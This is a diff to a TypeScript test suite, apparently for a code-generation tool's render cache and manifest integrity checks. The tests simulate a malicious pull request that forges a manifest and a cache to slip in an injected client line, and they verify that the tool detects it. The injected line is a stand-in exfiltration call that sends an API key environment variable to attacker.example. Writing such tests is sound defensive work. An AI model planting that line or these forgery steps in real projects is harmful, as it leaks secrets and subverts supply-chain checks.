@@ -10,7 +10,7 @@ import { runCli } from "./helpers/run-cli.js";
 import { REPO_ROOT, tempProject } from "./helpers/temp-dir.js";
 
 const run = promisify(execFile);
-const CACHE = "node_modules/.cache/flowgen/render-cache.json";
+const CACHE_DIR = "node_modules/.cache/flowgen";
 const INJECTED = 'fetch("https://attacker.example/" + process.env.FLOW_API_KEY);\n';
 
 /** The repo's specs, generated with the default render cache: the author's machine. */
@@ -28,6 +28,21 @@ async function freshClone(from: string, extra: readonly string[] = []): Promise<
   for (const name of ["package.json", "specs", "generated", ...extra])
     await cp(path.join(from, name), path.join(dir, name), { recursive: true });
   return dir;
+}
+
+/** The render cache a project's runs left: its index (format line, MAC, entries) and pack. */
+async function readCache(dir: string) {
+  const indexText = await readFile(path.join(dir, CACHE_DIR, "render-cache.json"), "utf8");
+  const [format = "", mac = "", json = ""] = indexText.split("\n");
+  const index = JSON.parse(json) as Record<string, [number, number, string]>;
+  const pack = await readFile(path.join(dir, CACHE_DIR, "render-cache.pack"));
+  return { indexText, format, mac, index, pack };
+}
+
+async function writeCache(dir: string, indexText: string, pack: Buffer): Promise<void> {
+  await mkdir(path.join(dir, CACHE_DIR), { recursive: true });
+  await writeFile(path.join(dir, CACHE_DIR, "render-cache.pack"), pack);
+  await writeFile(path.join(dir, CACHE_DIR, "render-cache.json"), indexText);
 }
 
 /** A pull request's forgery: a line added to a client, and that file's new hash put into the manifest. */
@@ -78,24 +93,57 @@ describe("the committed manifest is no evidence of what generated/ holds", () =>
     const author = await authorsProject();
     const clone = await freshClone(author);
     await injectWithForgedManifest(clone);
-    // The forger also commits a cache (git add -f) whose entries hold the injected client.
-    const cacheText = await readFile(path.join(author, CACHE), "utf8");
-    const entries = JSON.parse(cacheText.slice(cacheText.indexOf("{"))) as Record<string, string>;
-    const pristine = await readFile(path.join(author, "generated/@acme/qa.ts"), "utf8");
-    const injected = await readFile(path.join(clone, "generated/@acme/qa.ts"), "utf8");
-    const manifest = await readFile(path.join(clone, "generated", MANIFEST_PATH), "utf8");
-    const pristineManifest = await readFile(path.join(author, "generated", MANIFEST_PATH), "utf8");
-    const forged = Object.fromEntries(
-      Object.entries(entries).map(([key, value]) => [
-        key,
-        value === pristine ? injected : value === pristineManifest ? manifest : value,
-      ]),
+    // The forger also commits a cache (git add -f) whose entries hold the injected client, with
+    // an index of its own: it cannot sign that for this machine.
+    const { format, mac, index, pack } = await readCache(author);
+    const replacements = new Map([
+      [await readFile(path.join(author, "generated/@acme/qa.ts"), "utf8"), "generated/@acme/qa.ts"],
+      [
+        await readFile(path.join(author, "generated", MANIFEST_PATH), "utf8"),
+        `generated/${MANIFEST_PATH}`,
+      ],
+    ]);
+    const chunks: Buffer[] = [];
+    const forgedIndex: typeof index = {};
+    let offset = 0;
+    for (const [key, [start, length]] of Object.entries(index)) {
+      const value = pack.subarray(start, start + length).toString("utf8");
+      const replacement = replacements.get(value);
+      const bytes = Buffer.from(
+        replacement === undefined ? value : await readFile(path.join(clone, replacement), "utf8"),
+      );
+      forgedIndex[key] = [offset, bytes.length, createHash("sha256").update(bytes).digest("hex")];
+      chunks.push(bytes);
+      offset += bytes.length;
+    }
+    await writeCache(
+      clone,
+      [format, mac, JSON.stringify(forgedIndex)].join("\n"),
+      Buffer.concat(chunks),
     );
-    await mkdir(path.dirname(path.join(clone, CACHE)), { recursive: true });
-    await writeFile(path.join(clone, CACHE), JSON.stringify(forged));
 
     const checked = await check({ cwd: clone, config: false });
     expect(checked.ok && checked.diff.changed).toEqual([MANIFEST_PATH, "@acme/qa.ts"]);
+  });
+
+  it("this machine's own index over a pack with other bytes in a value's place gives that value no credit", async () => {
+    const author = await authorsProject();
+    const clone = await freshClone(author);
+    const pristine = await readFile(path.join(author, "generated/@acme/qa.ts"), "utf8");
+    const { indexText, index, pack } = await readCache(author);
+    // The same length, other bytes: the index still points at the client's place in the pack.
+    const entry = Object.values(index).find(
+      ([start, length]) => pack.subarray(start, start + length).toString("utf8") === pristine,
+    );
+    expect(entry).toBeDefined();
+    const [start = 0, length = 0] = entry ?? [];
+    const forged = Buffer.from(pack);
+    forged.fill("/", start + length - 40, start + length - 1);
+    await writeCache(clone, indexText, forged);
+
+    const generated = await generate({ cwd: clone, config: false });
+    expect(generated.ok).toBe(true);
+    expect(await readFile(path.join(clone, "generated/@acme/qa.ts"), "utf8")).toBe(pristine);
   });
 
   it("a forged manifest cannot make generate skip the checks of a spec", async () => {
